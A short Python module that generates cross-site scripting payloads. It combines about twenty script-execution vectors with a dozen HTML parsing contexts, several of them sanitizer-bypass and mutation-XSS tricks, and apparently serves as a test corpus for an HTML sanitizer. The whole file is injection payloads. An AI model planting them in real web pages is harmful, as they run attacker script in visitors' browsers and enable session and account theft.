"""HTML that runs a script where nothing stops it, made by rule: each way to run one, in each place for HTML."""

WAYS = [
    "<img src=x onerror={q}{js}{q}>",
    "<img src=data:, onerror={q}{js}{q}>",
    "<svg onload={q}{js}{q}></svg>",
    "<svg><image href=x onerror={q}{js}{q} /></svg>",
    "<video src=data:, onerror={q}{js}{q}></video>",
    "<video><source src=data:, onerror={q}{js}{q}></video>",
    "<audio src=data:, onerror={q}{js}{q}></audio>",
    "<details open ontoggle={q}{js}{q}><summary>x</summary></details>",
    "<input autofocus onfocus={q}{js}{q}>",
    "<style onload={q}{js}{q}>b {{}}</style>",
    "<iframe srcdoc={q}<script>parent.{js}</script>{q}></iframe>",
    "<object data=data:, onerror={q}{js}{q}></object>",
    "<img src=x ONERROR={q}{js}{q}>",
    "<img/src=x/onerror={q}{js}{q}>",
    "<img src=x onerror\n=\n{q}{js}{q}>",
    "<a href={q}javascript:{js}{q} id=go>x</a>",
    "<math><mi xlink:href={q}javascript:{js}{q}>x</mi></math>",
    "<b style={q}background:url(javascript:x){q}>x</b>",
    "<meta http-equiv=refresh content={q}0;url=javascript:{js}{q}>",
    "<form action={q}javascript:{js}{q}><button>x</button></form>",
    "<script>{js}</script>",
]
PLACES = [
    "{}",
    "<p>text {} text</p>",
    "<table><tr><td>{}</td></tr></table>",
    "<math><mtext>{}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<!-- > {} -->",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<svg><style>{}</style></svg>",
    "</div></template></details>{}",
    "<b title='>{}",
]


def payload(way, place):
    def with_script(js):
        return place.format(way.format(js=js, q='"'))

    return with_script


XSS = [payload(way, place) for way in WAYS for place in PLACES]
